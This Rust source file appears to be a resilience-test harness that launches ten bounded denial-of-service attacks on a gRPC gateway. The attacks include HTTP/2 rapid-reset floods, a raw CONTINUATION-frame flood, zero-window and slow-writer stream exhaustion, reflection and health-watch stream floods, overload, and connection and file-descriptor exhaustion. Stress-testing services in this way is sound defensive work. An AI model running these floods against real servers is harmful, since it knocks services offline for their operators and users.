//! The attacks. Each is bounded: its connections and streams are counted here, and its loops end with the siege.

use std::{future::pending, net::SocketAddr, time::Duration};

use amazon_sandbox::examples;
use bytes::Bytes;
use h2::client::SendRequest;
use http::Request;
use prost::Message;
use stockroom_proto::pb;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::sleep,
};

use super::process::ATTACKER_TOKEN;

const GET_PRODUCT: &str = "/stockroom.v1.ProductService/GetProduct";
const WATCH: &str = "/grpc.health.v1.Health/Watch";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The most that one connection resets, and the most frames of one header block.
const MAX_RESETS: usize = 5_000;
const MAX_CONTINUATIONS: usize = 20_000;

#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attack {
    WindowZeroReaders,
    SilentConnections,
    HealthWatches,
    ReflectionFlood,
    RapidResets,
    Continuation,
    Overload,
    SlowWriters,
    HalfClosed,
    FileDescriptors,
}

/// An attack under way.
pub(crate) struct Siege(JoinSet<()>);

impl Siege {
    /// Closes all its connections.
    pub(crate) async fn end(mut self) {
        self.0.shutdown().await;
    }
}

impl Attack {
    pub(crate) const ALL: [Self; 10] = [
        Self::WindowZeroReaders,
        Self::SilentConnections,
        Self::HealthWatches,
        Self::ReflectionFlood,
        Self::RapidResets,
        Self::Continuation,
        Self::Overload,
        Self::SlowWriters,
        Self::HalfClosed,
        Self::FileDescriptors,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::WindowZeroReaders => "window-0 readers",
            Self::SilentConnections => "silent connections",
            Self::HealthWatches => "health watches",
            Self::ReflectionFlood => "reflection streams",
            Self::RapidResets => "rapid resets",
            Self::Continuation => "CONTINUATION",
            Self::Overload => "12 x overload",
            Self::SlowWriters => "slow writers",
            Self::HalfClosed => "half-closed peers",
            Self::FileDescriptors => "100 descriptors",
        }
    }

    /// Whether the attackers have a token and use up the places, so that refusing others at once is right.
    pub(crate) fn fills_places(self) -> bool {
        matches!(self, Self::WindowZeroReaders | Self::Overload)
    }

    pub(crate) fn max_file_descriptors(self) -> Option<u32> {
        (self == Self::FileDescriptors).then_some(100)
    }

    /// Begins, and goes on until the siege ends.
    pub(crate) fn begin(self, gateway: SocketAddr) -> Siege {
        let mut tasks = JoinSet::new();
        match self {
            Self::WindowZeroReaders => (0..4).for_each(|_| drop(tasks.spawn(window_zero(gateway)))),
            Self::SilentConnections => (0..1_200).for_each(|_| drop(tasks.spawn(silent(gateway)))),
            Self::FileDescriptors => (0..200).for_each(|_| drop(tasks.spawn(silent(gateway)))),
            Self::HealthWatches => (0..4).for_each(|_| drop(tasks.spawn(streams(gateway, WATCH)))),
            Self::ReflectionFlood => (0..4).for_each(|_| drop(tasks.spawn(streams(gateway, REFLECTION)))),
            Self::RapidResets => (0..4).for_each(|_| drop(tasks.spawn(rapid_resets(gateway)))),
            Self::Continuation => (0..4).for_each(|_| drop(tasks.spawn(continuation(gateway)))),
            Self::Overload => (0..48).for_each(|_| drop(tasks.spawn(overload(gateway)))),
            Self::SlowWriters => (0..4).for_each(|_| drop(tasks.spawn(slow_writers(gateway)))),
            Self::HalfClosed => (0..200).for_each(|_| drop(tasks.spawn(half_closed(gateway)))),
        }
        Siege(tasks)
    }
}

async fn http2(gateway: SocketAddr, window: u32) -> Option<SendRequest<Bytes>> {
    let stream = TcpStream::connect(gateway).await.ok()?;
    let (send, connection) = h2::client::Builder::new().initial_window_size(window).handshake(stream).await.ok()?;
    tokio::spawn(connection);
    send.ready().await.ok()
}

fn post(path: &str, timeout: &str) -> Request<()> {
    Request::post(format!("http://gateway{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("grpc-timeout", timeout)
        .header("authorization", format!("Bearer {ATTACKER_TOKEN}"))
        .body(())
        .unwrap()
}

fn get_product() -> Bytes {
    let message = pb::GetProductRequest { asin: examples::HEADPHONES[0].to_owned(), options: None }.encode_to_vec();
    [&[0][..], &u32::try_from(message.len()).unwrap().to_be_bytes(), &message].concat().into()
}

/// 256 calls at a time, none of whose answers may be sent.
async fn window_zero(gateway: SocketAddr) {
    let Some(send) = http2(gateway, 0).await else { return };
    loop {
        let mut calls = Vec::new();
        for _ in 0..256 {
            let Ok(mut ready) = send.clone().ready().await else { return };
            let Ok((response, mut body)) = ready.send_request(post(GET_PRODUCT, "2S"), false) else { return };
            let _ = body.send_data(get_product(), true);
            calls.push(response);
        }
        sleep(Duration::from_secs(2)).await;
    }
}

/// Sends nothing, and connects again when it is closed.
async fn silent(gateway: SocketAddr) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(gateway).await {
            let _ = stream.read(&mut [0; 16]).await;
        }
        sleep(Duration::from_millis(500)).await;
    }
}

/// 256 streams that stay open.
async fn streams(gateway: SocketAddr, path: &str) {
    let Some(send) = http2(gateway, 65_535).await else { return };
    let mut open = Vec::new();
    for _ in 0..256 {
        let Ok(mut ready) = send.clone().ready().await else { break };
        let Ok((response, mut body)) = ready.send_request(post(path, "60S"), false) else { break };
        let is_watch = path == WATCH;
        let message = if is_watch { Bytes::from_static(b"\0\0\0\0\0") } else { Bytes::new() };
        let _ = body.send_data(message, is_watch);
        open.push((response, body));
    }
    pending().await
}

async fn rapid_resets(gateway: SocketAddr) {
    for _ in 0..20 {
        let Some(send) = http2(gateway, 65_535).await else { continue };
        for _ in 0..MAX_RESETS {
            let Ok(mut ready) = send.clone().ready().await else { break };
            let Ok((response, mut body)) = ready.send_request(post(GET_PRODUCT, "2S"), false) else { break };
            body.send_reset(h2::Reason::CANCEL);
            drop(response);
            tokio::task::yield_now().await;
        }
        sleep(Duration::from_millis(100)).await;
    }
    pending().await
}

/// One header block without an end.
async fn continuation(gateway: SocketAddr) {
    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
        let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
        [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
    };
    // A literal header that is not indexed, of 1 KB.
    let header = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x07][..], &[b'a'; 1024]].concat();
    for _ in 0..20 {
        if let Ok(mut stream) = TcpStream::connect(gateway).await {
            let _ = stream.write_all(PREFACE).await;
            let _ = stream.write_all(&frame(4, 0, 0, &[])).await;
            let _ = stream.write_all(&frame(1, 0, 1, &[])).await;
            for _ in 0..MAX_CONTINUATIONS {
                if stream.write_all(&frame(9, 0, 1, &header)).await.is_err() {
                    break;
                }
            }
        }
        sleep(Duration::from_millis(100)).await;
    }
    pending().await
}

/// 256 calls in progress at all times; 48 of these are twelve times the places.
async fn overload(gateway: SocketAddr) {
    let Some(send) = http2(gateway, 1 << 20).await else { return };
    let mut calls = JoinSet::new();
    for _ in 0..256 {
        let send = send.clone();
        calls.spawn(async move {
            loop {
                let Ok(mut ready) = send.clone().ready().await else { return };
                let Ok((response, mut body)) = ready.send_request(post(GET_PRODUCT, "2S"), false) else { return };
                let _ = body.send_data(get_product(), true);
                if let Ok(response) = response.await {
                    let mut body = response.into_body();
                    while let Some(Ok(data)) = body.data().await {
                        let _ = body.flow_control().release_capacity(data.len());
                    }
                }
                // 12,288 of them are paced to a few thousand calls a second, or the machine measures itself.
                sleep(Duration::from_secs(1)).await;
            }
        });
    }
    while calls.join_next().await.is_some() {}
}

/// 256 requests whose message never ends.
async fn slow_writers(gateway: SocketAddr) {
    let Some(send) = http2(gateway, 65_535).await else { return };
    let mut open = Vec::new();
    loop {
        for _ in 0..256 {
            let Ok(mut ready) = send.clone().ready().await else { return };
            let Ok((response, mut body)) = ready.send_request(post(GET_PRODUCT, "9S"), false) else { return };
            let _ = body.send_data(Bytes::from_static(b"\0\0\0\0"), false);
            open.push((response, body));
        }
        sleep(Duration::from_secs(1)).await;
        open.clear();
    }
}

async fn half_closed(gateway: SocketAddr) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(gateway).await {
            let _ = stream.write_all(PREFACE).await;
            let _ = stream.shutdown().await;
            let _ = stream.read_to_end(&mut Vec::new()).await;
        }
        sleep(Duration::from_millis(500)).await;
    }
}
